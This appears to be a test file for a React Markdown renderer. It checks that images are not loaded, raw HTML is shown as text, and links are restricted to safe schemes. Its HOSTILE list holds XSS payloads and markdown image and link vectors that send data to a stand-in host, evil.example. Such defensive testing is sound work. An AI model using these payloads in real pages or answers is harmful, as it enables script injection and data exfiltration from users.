import i18next from "i18next";
import { renderToStaticMarkup } from "react-dom/server";
import { initReactI18next } from "react-i18next";
import { beforeAll, expect, test } from "vitest";
import MarkdownRendered from "../src/components/MarkdownRendered";
import work from "../src/locales/en/work.json";

beforeAll(async () => {
  await i18next.use(initReactI18next).init({ lng: "en", resources: { en: { translation: work } } });
});

const render = (text: string) => renderToStaticMarkup(<MarkdownRendered text={text} />);

test("an image is named and not loaded", () => {
  const html = render("![secret](https://evil.example/?q=1)");
  expect(html).not.toContain("<img");
  expect(html).not.toContain("src=");
  expect(html).toContain("Image not loaded: secret");
});

test("HTML in an answer is text", () => {
  const html = render(
    '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<b onclick="x()">b</b>',
  );
  expect(html).not.toMatch(/<script|<img|<b[ >]/);
});

test("a link leads only to where links may lead", () => {
  expect(render("[x](javascript:alert(1))")).not.toContain("javascript:");
  expect(render("[x](data:text/html,1)")).not.toContain("data:");
  const html = render("[x](https://example.com)");
  expect(html).toContain('rel="noopener noreferrer nofollow"');
});

test("tables, lists and code are rendered", () => {
  const html = render("| a |\n|---|\n| 1 |\n\n- x\n\n```sh\nls\n```\n\n# Title");
  expect(html).toMatch(/<table>/);
  expect(html).toMatch(/<li>x<\/li>/);
  expect(html).toMatch(/<pre[^>]*><code/);
  expect(html).not.toContain("<h1");
});

/** What arrives in an answer when somebody means harm. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=q></form>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "<style>@import url(https://evil.example)</style>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](vbscript:msgbox)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![](https://evil.example/?secret)",
  '![x](https://evil.example "onload=alert(1)")',
  "![x][ref]\n\n[ref]: https://evil.example/leak",
  "[![x](https://evil.example/a)](https://evil.example/b)",
  "```html\n<script>alert(1)</script>\n```",
  '```"onmouseover=alert(1)\nx\n```',
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "- [ ] <input type=image src=x onerror=alert(1)>",
];

test.each(HOSTILE)("nothing of this runs, loads or leads astray: %s", (text) => {
  // The page's own sign for an image that was not loaded.
  const html = render(text).replaceAll(/<svg [^>]*tabler-icon-photo-off".*?<\/svg>/g, "");
  expect(html).not.toMatch(/<(?:script|img|svg|iframe|form|link|meta|style|object|embed|base)\b/i);
  expect(html).not.toMatch(/<[^>]*\s(?:on\w+|srcdoc|style)\s*=/i);
  expect(html).not.toMatch(/<[^>]*\ssrc(?:set)?=/i);
  for (const [, address] of html.matchAll(/href="([^"]*)"/g)) {
    expect(address).toMatch(/^(?:$|#|https?:|mailto:)/);
  }
});
